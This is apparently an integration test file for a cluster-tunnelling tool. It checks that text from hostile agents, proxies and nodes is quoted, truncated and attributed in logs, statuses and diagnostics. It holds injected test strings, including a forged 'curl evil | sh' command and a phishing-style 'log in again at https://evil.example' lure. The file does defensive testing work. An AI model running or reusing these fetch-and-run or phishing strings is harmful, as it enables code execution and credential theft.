"""Item 14: words of agents, proxies and nodes, in logs, answers and conditions."""

from __future__ import annotations

import contextlib
import json
import re
import socket

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from twisted.conch.ssh.common import NS
from twisted.trial.unittest import SynchronousTestCase

from tests.attacks.cleanliness import WORSE, unfit
from tests.integration import harness
from tests.integration.asking import Asking
from tests.integration.backends import Backend
from tests.integration.hostile_agent import HostileAgentTestCase
from tests.integration.hostile_proxy import HostileProxyTestCase
from tests.integration.programs import run, script, wait_for
from tests.integration.raw_peer import (
    CONFIRM,
    DATA,
    DISCONNECT,
    OPEN,
    REFUSE,
    Gone,
    RawPeer,
    agent_peer,
    number,
)
from tests.integration.threaded import ThreadedServer
from tower.escaping import PEER_TEXT_LIMIT, VERSION_LIMIT
from tower.v2.hello import LONGEST_TEXT, AgentHello, ProxyHello
from tower.v2.transport import STATUS_REPORT

IGNORE = 2
BY_APPLICATION = 11
GLOBAL = 80

#: A peer's words, and their start when they are quoted.
WORDS = 'log in again at "https://evil.example" ' + WORSE + "x" * 2000
REPEATED = r"log in again at \"https://evil.example\" one\r\n2026"


#: An instruction that must not pass for Tower's.
FORGED = "fine\": run 'curl evil | sh' -> run 'curl evil | sh' " + WORSE


def status_report(**checks: tuple[str, str]) -> bytes:
    """Return a member status: status and reason of each check, all with the forged words."""
    value = {
        key: {"status": status, "reason": reason, "message": (FORGED + "x" * 1024)[:1024]}
        for key, (status, reason) in checks.items()
    }
    return (
        bytes((GLOBAL,)) + NS(STATUS_REPORT) + b"\0" + json.dumps({**value, "version": FORGED[:7]}).encode()
    )


def last_words(text: str = WORDS) -> bytes:
    """Return a disconnect with a reason."""
    return bytes((DISCONNECT,)) + number(BY_APPLICATION) + NS(text.encode()) + NS(b"")


class QuotationTestCase(SynchronousTestCase):
    """Base of the tests of quotations."""

    def assertReported(self, text: str, who: str) -> None:
        """*text* has the words above with their speaker, quoted and within the limit, and is printable."""
        self.assertEqual(unfit(text), [])
        begin = f'{who} reports: "'
        self.assertIn(begin + REPEATED, text)
        logged = re.match(r'(?:[^"\\]|\\.)*', text.partition(begin)[2])
        assert logged is not None
        self.assertLessEqual(len(logged[0]), PEER_TEXT_LIMIT)
        self.assertNotIn("x" * PEER_TEXT_LIMIT, text)


class AgentTests(HostileAgentTestCase, QuotationTestCase):
    """An agent's words."""

    def test_refusal(self) -> None:
        """The reason for refusing a stream: quoted in the Status, and in the log, with any code."""
        codes = {"not-allowed: ": 403, "no-such-target: ": 404, "busy: ": 503, "timeout: ": 504, "": 503}
        for code, status in codes.items():
            peer = self.bench.peer()
            self.addCleanup(peer.close)
            asking = Asking(self.bench.victim)
            self.addCleanup(asking.close)
            message = peer.next(OPEN)
            size = int.from_bytes(message[1:5], "big")
            remote = int.from_bytes(message[5 + size : 9 + size], "big")
            peer.say(bytes((REFUSE,)) + number(remote, 1) + NS((code + WORDS).encode()) + NS(b"en"))
            self.assertEqual(asking.answer(), status)
            self.assertEqual(unfit(asking.body), [])
            answer = json.loads(asking.body)
            self.assertEqual(answer["kind"], "Status")
            self.assertReported(answer["message"], "the agent of evil")
            peer.close()
        # the log is written by a thread
        wait_for("the lines", lambda: len(self.repeated()) == len(codes))
        lines = self.repeated()
        for line in lines:
            self.assertReported(line, "the agent of evil")
        self.assertEqual(unfit(self.logged()), [])

    def repeated(self) -> list[str]:
        """Return the lines of the log that repeat the agent's words."""
        return [line for line in self.logged().split("\n") if REPEATED in line]

    def test_reason_for_end(self) -> None:
        """Its reason for disconnecting: in one line of the log, attributed to the agent of that cluster."""
        peer = self.bench.peer()
        host, port = peer.socket.getsockname()
        peer.say(last_words())
        with contextlib.suppress(Gone):
            peer.end()
        peer.close()
        line = f"agent of evil at {host}:{port} disconnected: "
        wait_for(f"the line {line!r}", lambda: line in self.logged())
        (logged,) = [each for each in self.logged().split("\n") if line in each]
        self.assertReported(logged, "the agent of evil")

    def test_member_status(self) -> None:
        """Its reports about the API server: quoted in conditions, log and answers, with Tower's own cures."""
        peer = self.bench.peer()
        self.addCleanup(peer.close)
        peer.say(
            status_report(
                apiServer=("False", "Timeout"),
                credential=("False", "CurlEvil"),
                impersonation=("Unknown", "Ready"),
            )
        )

        def live() -> None:
            """Send something, so that the agent does not count as frozen on a busy machine."""
            peer.say(bytes((IGNORE,)) + NS(b""))

        def conditions() -> dict[str, dict[str, str]]:
            live()
            status = self.bench.tower.status("evil")["status"]
            known = {each["type"]: each for each in status["conditions"]}
            self.assertNotEqual(known["APIServerReachable"]["reason"], "UnknownReason")
            return known if known["APIServerReachable"]["reason"] == "Timeout" else {}

        known = wait_for("the report in the conditions", conditions, 30.0)
        for kind, status, reason in (
            ("Available", "False", "Timeout"),
            ("APIServerReachable", "False", "Timeout"),
            ("MemberCredential", "False", "UnknownReason"),
            ("ImpersonationAllowed", "Unknown", "UnknownReason"),
        ):
            self.assertEqual((known[kind]["status"], known[kind]["reason"]), (status, reason))
            self.assertForged(known[kind]["message"])
        self.assertIn(
            ": restart the API server if it is frozen", known["Available"]["message"].rpartition('"')[2]
        )
        self.assertTrue(known["MemberCredential"]["message"].endswith('…".'))
        asking = Asking(self.bench.victim)
        self.addCleanup(asking.close)
        message = peer.next(OPEN)
        size = int.from_bytes(message[1:5], "big")
        remote = int.from_bytes(message[5 + size : 9 + size], "big")
        answer = b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"
        peer.say(
            bytes((CONFIRM,)) + number(remote, 0, 65536, 65536),
            bytes((DATA,)) + number(remote) + NS(answer),
        )
        self.assertEqual(asking.answer(), 502)
        self.assertForged(json.loads(asking.body)["message"])
        version = self.bench.tower.status("evil")["status"].get("kubernetesVersion", "")
        self.assertNotIn("fine", version)
        line = "cluster evil is not available: Timeout: "
        wait_for("the line in the log", lambda: line in self.logged())
        (logged,) = [each for each in self.logged().split("\n") if line in each]
        self.assertForged(logged)
        for form in ("table", "json", "yaml", "wide"):
            live()
            self.assertEqual(unfit(self.bench.tower.tower("cluster", "list", "-o", form)), [], form)
        live()
        self.assertDoctor("FAIL", "APIServerReachable", "restart the API server if it is frozen")
        peer.say(
            status_report(
                apiServer=("True", "ClockSkew"),
                credential=("True", "CredentialAccepted"),
                impersonation=("True", "CurlEvil"),
            )
        )
        wait_for("the next report", lambda: conditions() == {}, 60.0)
        self.assertDoctor("warn", "APIServerReachable", "synchronize both machines with NTP")

    def assertForged(self, text: str) -> None:
        """*text* has the forged words as one quotation of the agent, and nothing of them outside it."""
        self.assertEqual(unfit(text), [])
        before, who, rest = re.split("(the agent of evil reports: )", text, maxsplit=1, flags=re.IGNORECASE)
        self.assertTrue(who, text)
        quotation = re.match(r'"(?:[^"\\]|\\.)*"', rest)
        assert quotation is not None
        self.assertLessEqual(len(quotation[0]), PEER_TEXT_LIMIT + 2)
        self.assertIn("curl evil", quotation[0])
        self.assertNotIn("curl", before + rest[len(quotation[0]) :])

    def assertDoctor(self, grade: str, check: str, cure: str) -> None:
        """``tower doctor`` has that finding with that cure, and no cure has the agent's words."""
        words = ("--state-dir", str(self.bench.tower.state), "-o", "json")
        done = run([script("tower"), "doctor", "evil", *words], folder=self.bench.tower.folder)
        findings = json.loads(done.stdout)["findings"]
        (found,) = [each for each in findings if each["check"] == check]
        self.assertEqual(found["status"], grade)
        self.assertIn(cure, found["cure"])
        self.assertForged(found["seen"])
        for each in findings:
            self.assertNotIn("curl", each["cure"])
            self.assertEqual(unfit(each["seen"]), [])

    def test_changing_status(self) -> None:
        """An agent that reports more often than allowed, or more than allowed, is disconnected."""
        changing = [
            status_report(apiServer=("False", "ConnectionRefused") if number % 2 else ("True", "ClockSkew"))
            for number in range(1000)
        ]
        peer = self.bench.peer()
        peer.flood(peer.writer.wrap(b"".join(map(peer.ssh.sealer.seal, changing))) for _ in range(1))
        self.assertDropped(peer, "too many member statuses")
        peer = self.bench.peer()
        huge = json.dumps({"apiServer": {"message": "x" * 200_000}}).encode()
        peer.say(bytes((GLOBAL,)) + NS(STATUS_REPORT) + b"\0" + huge)
        self.assertDropped(peer, "a member status of 2000.. B exceeds the limit of 16384 B")
        self.assertLess(self.logged().count("cluster evil is"), 10)

    def test_version(self) -> None:
        """Its version is cut when shown, and quoted in the log."""
        peer = agent_peer(self.bench.tower.port, "evil", self.bench.key, self.bench.host_key)
        self.addCleanup(peer.close)
        version = 'v1.0", authenticated as "root" ' + "y" * LONGEST_TEXT
        name = "host   True " + "z" * LONGEST_TEXT
        peer.ssh._hello = AgentHello(version[:LONGEST_TEXT], name[:LONGEST_TEXT])
        peer.authenticate()
        line = 'the agent of evil reports: "version v1.0\\", authenticated as \\"root\\" yyy'
        wait_for("the line", lambda: line in self.logged())
        self.assertNotIn("y" * VERSION_LIMIT, self.logged())
        path = "/apis/cluster.kubesphere.io/v1alpha1/clusters/evil/agents"
        listed = self.bench.tower.admin().request("GET", path).body.decode()
        self.assertIn("yyy", listed)
        self.assertIn('\\"host   True zzz', listed)
        self.assertNotIn("y" * VERSION_LIMIT, listed)
        self.assertNotIn("z" * VERSION_LIMIT, listed)
        self.assertEqual(unfit(self.bench.tower.tower("cluster", "agents", "evil")), [])


class ProxyTests(HostileProxyTestCase, QuotationTestCase):
    """A proxy's words, in the log of its agent."""

    def assertLogged(self, pattern: str) -> str:
        """Wait for a line of the agent; return it."""
        lines = wait_for(f"the line {pattern}", lambda: re.findall(pattern, self.logged()))
        return str(lines[-1])

    def test_reason_for_end(self) -> None:
        """The reason for ending a tunnel: before the agent is authenticated, and after that."""
        peer = self.accepted()
        peer.say(last_words())
        self.assertReported(self.assertLogged(r"lost the tunnel to \S+: .*"), "the proxy")
        peer.close()
        self.before = len(self.agent.output())
        early = self.bench.proxy.accept()
        early.begin()
        early.until(lambda: early.ssh.isEncrypted("both"))
        early.say(last_words())
        self.assertReported(self.assertLogged(r"attempt \d+ to connect failed: .*"), "the proxy")
        early.close()
        self.assertEqual(unfit(self.logged()), [])

    def test_version(self) -> None:
        """Its version."""
        peer = self.bench.proxy.accept()
        peer.ssh._answer = ProxyHello('v1", trusted; "' + "y" * 200, keepalive=60.0).encode()
        self.authenticated(peer)
        line = self.assertLogged(r"connected to .*")
        self.assertIn(r'; the proxy reports: "version v1\", trusted; \"yyy', line)
        self.assertNotIn("y" * VERSION_LIMIT, line)

    def authenticated(self, peer: RawPeer) -> None:
        """Do the handshake."""
        self.addCleanup(peer.close)
        peer.authenticate()


class Liar(ThreadedServer):
    """A node that does not send SSH."""

    def serve(self, connection: socket.socket) -> None:
        """See `ThreadedServer.serve`."""
        with connection, contextlib.suppress(OSError):
            connection.sendall(WORSE.replace("\r\n", " ").encode() + b"x" * 2000 + b"\r\n")
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(65536):
                pass


class NodeTests(harness.TowerTestCase, QuotationTestCase):
    """A node's words, in the log and in the status and the conditions of its cluster."""

    def test_banner(self) -> None:
        """Words in place of SSH are quoted as the node's, cut and printable."""
        node = Liar()
        self.addCleanup(node.close)
        backend = Backend(self.folder, "alpha")
        self.addCleanup(backend.program.stop)
        backend.start()
        key = self.tower.node_files / "key"
        key.parent.mkdir(mode=0o700, exist_ok=True)
        key.touch(0o600)
        key.write_bytes(
            Ed25519PrivateKey.generate().private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption())
        )
        self.tower.tower(
            *("cluster", "add", "alpha", "--type", "ssh", "--ssh-user", "tower", "--ssh-keyfile", str(key)),
            *("--ssh-host-keys", "accept-new", "--nodes", f"127.0.0.1:{node.port}"),
            *("--member-kubeconfig", str(backend.kubeconfig("alpha"))),
        )

        def reported() -> str:
            status = self.tower.status("alpha")["status"]
            return json.dumps(status, ensure_ascii=False) if "forged" in json.dumps(status) else ""

        status = wait_for("the node's words in the status", reported)
        self.assertEqual(unfit(status), [])
        self.assertIn(r"it reports: \"one 2026", status)
        self.assertNotIn("x" * PEER_TEXT_LIMIT, status)
        for form in ("table", "json", "yaml"):
            self.assertEqual(unfit(self.tower.tower("cluster", "show", "alpha", "-o", form)), [], form)
        self.assertEqual(unfit(self.tower.proxy.output()), [])
